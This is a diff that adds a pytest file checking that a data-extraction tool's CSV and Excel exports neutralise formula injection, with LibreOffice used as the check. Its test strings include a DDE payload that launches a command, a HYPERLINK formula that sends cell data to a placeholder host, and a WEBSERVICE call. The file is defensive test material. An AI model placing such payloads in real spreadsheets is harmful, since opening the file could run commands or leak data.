@@ -1,0 +1,145 @@
+"""Whatever a scan or a file's name says: no cell becomes a formula, every value reads back as it was."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+import subprocess
+import xml.etree.ElementTree as ET
+from collections.abc import Iterator
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from ntm_extract.edges.store import atomic
+from ntm_extract.outputs.frames import load, write_workbook
+from ntm_extract.outputs.schema import BY_NAME, TABLES, Column, Row, Table
+from ntm_extract.outputs.tables import as_lines
+
+STRINGS = (
+    *(
+        "=1+1",
+        "=A1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        " =1+1",
+        "'=1+1",
+        "''=1+1",
+        "'+84",
+        "'",
+    ),
+    *(
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://a.example/?"&A1;"xã")',
+        '=WEBSERVICE("http://a.example")',
+        "=DDE(1;2;3)",
+    ),
+    *(
+        "-",
+        "- Giao thông",
+        "+84 912",
+        "-5",
+        "=",
+        "@",
+        "1/2",
+        "2-3",
+        "00123",
+        "1e5",
+        "1.234.567",
+        "12,5 %",
+        "TRUE",
+        "#N/A",
+    ),
+    *("NA", "nan", "null", 'hai "xã"', 'a,"b"\n;c', "dòng\r\nmới", "\u202e=1+1", "\ufeff=1+1", "＝1+1", "xã\u00a0Lùng"),
+    *("{=1+1}", "[Sổ.xlsx]Trang!A1", "=" * 300),
+)
+OWN = ("op",)  # holds a sign of comparison, and nothing else
+
+
+def texts(table: Table) -> list[Column]:
+    return [column for column in table.columns if column.type == "string" and column.name not in OWN]
+
+
+def row(table: Table, text: str) -> Row:
+    """A row with this text in every column that takes text; numbers in the others, of either sign."""
+    number = {"integer": -7, "number": -0.5, "string": ">="}
+    return {c.name: text if c in texts(table) else number[c.type] for c in table.columns}
+
+
+@pytest.fixture(scope="module")
+def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("out")
+    for table in TABLES:
+        with atomic(folder / f"{table.name}.csv", newline="") as handle:
+            handle.write("\ufeff")
+            csv.writer(handle).writerow(table.names)
+            handle.write(as_lines(table.name, [row(table, text) for text in STRINGS]))
+    write_workbook(folder)
+    return folder
+
+
+def test_there_are_forty() -> None:
+    assert len(set(STRINGS)) >= 40
+
+
+def test_tables_read_back(out: Path) -> None:
+    for name, frame in load(out).items():
+        for column in texts(BY_NAME[name]):
+            assert frame[column.name].tolist() == list(STRINGS), (name, column.name)
+        for column in BY_NAME[name].columns:
+            if column.type != "string":
+                assert set(frame[column.name]) == {-7 if column.type == "integer" else -0.5}
+
+
+def test_workbook_reads_back_and_holds_no_formula(out: Path) -> None:
+    sheets = pd.read_excel(out / "ntm.xlsx", sheet_name=None, dtype=object, keep_default_na=False)
+    book = openpyxl.load_workbook(out / "ntm.xlsx", read_only=True)
+    for table in TABLES:
+        kinds = {cell.data_type for line in book[table.name].iter_rows(min_row=2) for cell in line}
+        assert kinds <= {"s", "n"}, table.name
+        for column in table.columns:
+            found = sheets[table.name][column.name].tolist()
+            if column in texts(table):
+                assert found == [plain(text) for text in STRINGS], (table.name, column.name)
+            elif column.type != "string":
+                assert all(isinstance(value, int | float) and value < 0 for value in found)
+
+
+def plain(text: str) -> str:
+    """As XML gives it back: an end of line is one letter."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+@pytest.fixture(scope="module")
+def office(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    if shutil.which("soffice") is None:
+        pytest.skip("needs LibreOffice (apt-get install libreoffice-calc)")
+    return tmp_path_factory.mktemp("office")
+
+
+def opened(path: Path, office: Path) -> Iterator[ET.Element]:
+    """The cells of a file as LibreOffice takes them when it opens it."""
+    home = f"-env:UserInstallation=file://{office}/home"
+    command = ["soffice", home, "--headless", "--convert-to", "fods", "--outdir", str(office), str(path)]
+    subprocess.run(command, check=True, capture_output=True, timeout=120)
+    root = ET.parse(office / f"{path.stem}.fods").getroot()
+    return root.iter("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell")
+
+
+@pytest.mark.parametrize("name", ["ntm.xlsx", "budgets.csv", "documents.csv", "table_cells.csv"])
+def test_no_cell_starts_a_formula_in_libreoffice(out: Path, office: Path, name: str) -> None:
+    cells = list(opened(out / name, office))
+    assert len(cells) > len(STRINGS)
+    assert not [cell.attrib for cell in cells if any(key.endswith("}formula") for key in cell.attrib)]
+
+
+def test_libreoffice_would_start_one_without_the_guard(tmp_path: Path, office: Path) -> None:
+    (tmp_path / "bare.csv").write_text("a\n=1+1\n", encoding="utf-8")
+    cells = list(opened(tmp_path / "bare.csv", office))
+    assert [cell for cell in cells if any(key.endswith("}formula") for key in cell.attrib)]
